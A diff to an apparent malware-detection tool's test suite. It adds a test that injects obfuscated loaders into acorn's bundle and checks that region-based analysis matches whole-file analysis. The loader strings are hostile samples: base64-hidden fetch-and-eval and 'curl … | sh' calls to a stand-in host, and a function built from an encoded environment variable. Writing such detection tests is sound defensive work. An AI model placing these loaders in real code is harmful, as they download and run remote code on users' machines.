@@ -164,6 +164,48 @@ describe('region analysis of large bundles', () => {
     }
   });
 
+  it('a loader injected before any statement of a real bundle, at any depth, gives the same facts by region as whole', function () {
+    this.timeout(120_000);
+    // acorn's own 240 KB distribution file (a dependency, so always installed), taken as a bundle: 30 seeded
+    // injections of three loader shapes before statements chosen at random from the whole-file tree.
+    const file = createRequire(import.meta.url).resolve('acorn');
+    const base = readFileSync(file, 'utf8');
+    const parsed = parseJs(base, 'dist/acorn.js', Infinity);
+    assert.ok(parsed.ok);
+    const starts: number[] = [];
+    const walk = (n: unknown, inList: boolean): void => {
+      if (Array.isArray(n)) for (const x of n) walk(x, inList);
+      else if (n && typeof n === 'object' && typeof (n as Node).type === 'string') {
+        const node = n as Node;
+        if (inList && /(?:Statement|Declaration)$/.test(node.type) && node.type !== 'BlockStatement') starts.push(node.start);
+        for (const [k, v] of Object.entries(node)) if (k !== 'loc') walk(v, k === 'body' || k === 'consequent');
+      }
+    };
+    walk(parsed.program, true);
+    const loaders = [
+      'var _u=atob("aHR0cDovLzE5OC41MS4xMDAuNy94");fetch(_u).then(function(r){return r.text()}).then(function(c){eval(c)});',
+      'require("child_process").execSync(Buffer.from("Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==","base64").toString());',
+      'new Function("require",Buffer.from(process.env.K||"","base64").toString())(require);',
+    ];
+    let seed = 7;
+    const next = (n: number): number => {
+      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
+      return seed % n;
+    };
+    let compared = 0;
+    for (let i = 0; i < 30; i++) {
+      const at = starts[next(starts.length)];
+      const text = base.slice(0, at) + loaders[next(loaders.length)] + base.slice(at);
+      const r = parseRegions(text, prefilterHits(text, sigs, false), []);
+      if (!r) continue;
+      const whole = factKeys(wholeFacts(text, 'dist/acorn.js'));
+      assert.ok(whole.some((k) => k.startsWith('sink ')), `no sink at ${at}`);
+      assert.deepEqual(factKeys(new JsAnalyzer(r.program, text, sigs.source, 60_000).run(1)), whole, `loader before offset ${at}: ${text.slice(at - 80, at)}`);
+      compared++;
+    }
+    assert.ok(compared >= 25, `${compared} of 30 analysed by region`);
+  });
+
   it('real bundles of this project’s dependencies: region facts equal whole-file facts', function () {
     this.timeout(120_000);
     const require = createRequire(import.meta.url);
